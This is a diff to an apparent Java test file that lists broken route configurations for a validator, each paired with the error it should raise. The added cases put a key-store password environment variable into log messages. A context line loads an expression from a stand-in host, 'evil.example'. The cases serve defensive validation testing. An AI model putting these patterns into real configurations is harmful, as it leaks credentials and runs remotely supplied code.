@@ -155,6 +155,16 @@ record BrokenRoute(String name, String file, String from, String to, String mark
                         "a placeholder " + environment,
                         "Use a setting site.*"),
                 BrokenRoute.step(
+                        "a password in a placeholder that may be without a value",
+                        "log: { message: \"{{?env:KLMS_KEY_STORE_PASSWORD}}\" }",
+                        "a placeholder " + environment,
+                        "Use a setting site.*"),
+                BrokenRoute.step(
+                        "a placeholder that is made of another",
+                        "log: { message: \"{{{{site.none:env}}:KLMS_KEY_STORE_PASSWORD}}\" }",
+                        "a placeholder stands within another",
+                        "Write each by itself"),
+                BrokenRoute.step(
                         "an expression from elsewhere",
                         "setBody: { simple: \"resource:https://evil.example/x\" }",
                         "an expression is loaded from elsewhere",
